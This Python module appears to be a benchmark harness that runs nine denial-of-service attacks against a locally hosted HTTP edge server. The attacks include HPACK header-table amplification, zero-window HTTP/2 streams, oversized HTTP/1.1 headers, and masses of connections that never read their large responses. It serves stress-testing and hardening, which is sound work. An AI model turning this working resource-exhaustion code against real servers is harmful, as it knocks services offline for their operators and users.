"""The attacks of bench/attack. Each is a function of (target, scale) that opens its connections, holds them, and returns
them; `scale` (0 to 1) is the part of the full size. A connection reads nothing unless its attack is documented to."""

import contextlib
import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
STREAMS = 128
BIG = "/big?n=1000000000"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first):
    """HPACK, RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def string(text):
    return integer(len(text), 7, 0) + text


def head(host, path, field=b""):
    """A header block for GET `path`; :authority and :path are literals without indexing."""
    return (b"\x82\x87" + integer(4, 4, 0) + string(path.encode()) + integer(1, 4, 0) + string(host.encode()) + field)


# The first head puts a field of nearly 4 KiB into the decoder's table; the others refer to it 8 times, 31 KiB of fields
# in 8 bytes.
FIRST_BIG = b"\x40" + string(b"x-a") + string(b"v" * 3900) + b"\xbe" * 7
NEXT_BIG = b"\xbe" * 8


class Target:
    """The target of attacks. `source(i)` is the client address of connection number i."""

    def __init__(self, edge, host, missing, source=None):
        self.edge, self.host, self.missing = edge, host, missing
        self.source = source or (lambda i: "127.0.0.1")
        self.context = edge.context(("h2",))

    def connect(self, kind, i=0, receive_buffer=None):
        sock = socket.socket()
        sock.settimeout(20)
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.bind((self.source(i), 0))
        sock.connect(("127.0.0.1", self.edge.port[kind]))
        return sock

    def connect_h2(self, i=0, window=65535, receive_buffer=None):
        sock = self.context.wrap_socket(self.connect("tls", i, receive_buffer), server_hostname=self.host)
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        sock.sendall(PREFACE + frame(SETTINGS, payload=settings) +
                     frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFFFFFF - 65535)))
        return sock


@contextlib.contextmanager
def refusals():
    """Ignores errors: the edge may refuse or end a connection of an attack."""
    with contextlib.suppress(OSError, ssl.SSLError):
        yield


def many(count, scale):
    return max(1, round(count * scale))


def heads(host, path, streams=STREAMS, big=False):
    """The requests of a connection."""
    data = b""
    for n in range(streams):
        field = (NEXT_BIG if n else FIRST_BIG) if big else b""
        data += frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head(host, path, field))
    return data


def over_http2(target, scale, connections, path, host=None, window=0, big_heads=False, receive_buffer=None,
               streams=STREAMS):
    socks = []
    for i in range(many(connections, scale)):
        with refusals():
            sock = target.connect_h2(i, window, receive_buffer)
            socks.append(sock)
            sock.sendall(heads(host or target.host, path, streams, big_heads))
    return socks


def heads_silent(target, scale):
    """100 connections, 128 streams each, heads of 31 KB through references, to an app that does not answer"""
    return over_http2(target, scale, 100, "/silent", big_heads=True)


def heads_404(target, scale):
    """the same to a preview that does not exist, with windows of 0"""
    return over_http2(target, scale, 100, "/", host=target.missing, big_heads=True)


def heads_http1(target, scale):
    """1,000 connections over HTTP/1.1, heads of 31 KB, to an app that does not answer"""
    socks = []
    text = f"GET /silent HTTP/1.1\r\nHost: {target.host}\r\nX-A: {'v' * 31000}\r\n\r\n".encode()
    for i in range(many(1000, scale)):
        with refusals():
            socks.append(target.connect("plain", i))
            socks[-1].sendall(text)
    return socks


def responses_window0(target, scale):
    """40 connections, 128 streams each with windows of 0, a large response on each"""
    return over_http2(target, scale, 40, BIG)


def responses_unread_http2(target, scale):
    """20 connections over HTTP/2 with large windows, never read"""
    return over_http2(target, scale, 20, BIG, window=0x7FFFFFFF, streams=8)


def responses_unread_http1(target, scale):
    """200 connections over HTTP/1.1 that never read their large response"""
    socks = []
    for i in range(many(200, scale)):
        with refusals():
            socks.append(target.connect("plain", i))
            socks[-1].sendall(f"GET {BIG} HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode())
    return socks


def responses_begun(target, scale):
    """100 connections over HTTP/1.1 that read 4 MB at full speed and then nothing more"""
    socks = responses_unread_http1(target, scale / 2)
    for sock in socks:
        with refusals():
            left = 4_000_000
            while left > 0 and (data := sock.recv(min(left, 262144))):
                left -= len(data)
    return socks


def closes_unread(target, scale):
    """500 connections, one after another: 3 MB with Connection: close, never read, never closed"""
    socks = []
    text = f"GET /big?n=3000000 HTTP/1.1\r\nHost: {target.host}\r\nConnection: close\r\n\r\n".encode()
    for i in range(many(500, scale)):
        with refusals():
            socks.append(target.connect("plain", i))
            socks[-1].sendall(text)
    return socks


def closes_complete(target, scale):
    """2,000 connections, one after another: 90 KB with Connection: close, never read, never closed"""
    socks = []
    text = f"GET /big?n=90000 HTTP/1.1\r\nHost: {target.host}\r\nConnection: close\r\n\r\n".encode()
    for i in range(many(2000, scale)):
        with refusals():
            socks.append(target.connect("plain", i, 4096))
            socks[-1].sendall(text)
    return socks


ATTACKS = {
    "heads-silent": heads_silent,
    "heads-404": heads_404,
    "heads-http1": heads_http1,
    "responses-window0": responses_window0,
    "responses-unread-http2": responses_unread_http2,
    "responses-unread-http1": responses_unread_http1,
    "responses-begun": responses_begun,
    "closes-unread": closes_unread,
    "closes-complete": closes_complete,
}
